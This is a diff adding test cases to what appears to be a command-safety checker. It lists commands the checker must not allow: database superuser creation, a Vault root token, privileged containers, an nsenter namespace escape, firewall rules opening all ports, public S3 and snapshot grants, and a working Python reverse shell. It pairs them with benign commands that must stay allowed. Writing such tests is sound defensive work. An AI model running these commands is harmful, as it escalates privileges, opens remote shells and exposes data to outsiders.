@@ -95,3 +95,53 @@ describe('the new readers, in the spellings the review found', () => {
     expect(r.decision.outcome).toBe('allow');
   });
 });
+
+describe('more spellings from the review', () => {
+  it.each([
+    'createuser -dsr eve',
+    'createuser --su eve',
+    'vault token create --policy=root',
+    'nomad job stop --purge api',
+    `mongosh admin --eval 'db.createUser({user:"eve",pwd:"x",roles:["dbOwner"]})'`,
+    'nsenter -m/proc/1/ns/mnt sh',
+    'ctr run --rm --privileged=true docker.io/library/alpine:latest x sh',
+    'lxc launch ubuntu:22.04 c1 -c security.privileged=true',
+    'incus config set c1 security.privileged true',
+    'ufw allow 1:65535/tcp',
+    'ufw allow 22,5432/tcp',
+    'ufw allow from any',
+    'firewall-cmd --permanent --add-port=1-65535/tcp',
+    'firewall-cmd --set-default-zone trusted',
+    'iptables -I INPUT -j ACCEPT',
+    'iptables -A INPUT -p tcp -m multiport --dports 80,22 -j ACCEPT',
+    'iptables -A INPUT -p tcp --destination-port 22 -j ACCEPT',
+    'iptables -A INPUT -s 0/0 -p tcp --dport 22 -j ACCEPT',
+    'nft add rule inet filter input tcp dport { 22, 5432 } accept',
+    'nft add rule inet filter input accept',
+    'pfctl -Fa',
+    'aws s3 sync ./dump s3://b/ --acl public-read',
+    'aws s3 cp ./dump.sql s3://b/ --grants read=uri=http://acs.amazonaws.com/groups/global/AllUsers',
+    "aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --create-volume-permission 'Add=[{Group=all}]'",
+    'az network nsg rule create -g rg --nsg-name n -n r --priority 100 --destination-port-ranges 22',
+    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect_ex(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
+  ])('%s is not allowed', async (command) => {
+    const r = await check(command);
+    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).not.toBe('allow');
+  });
+
+  it.each([
+    'createuser -d app',
+    `mongosh app --eval 'db.createUser({user:"eve",pwd:"x",roles:["dbOwner"]})'`,
+    'lxc launch ubuntu:22.04 c1',
+    'ufw allow 80,443/tcp',
+    'ufw allow from 10.0.0.0/8',
+    'iptables -A INPUT -i lo -j ACCEPT',
+    'iptables -A INPUT -m state --state ESTABLISHED,RELATED -j ACCEPT',
+    'iptables -A INPUT -p icmp -j ACCEPT',
+    'nft add rule inet filter input ct state established,related accept',
+    'az network nsg rule update -g rg --nsg-name n -n r --priority 200',
+  ])('%s stays allowed', async (command) => {
+    const r = await check(command);
+    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).toBe('allow');
+  });
+});
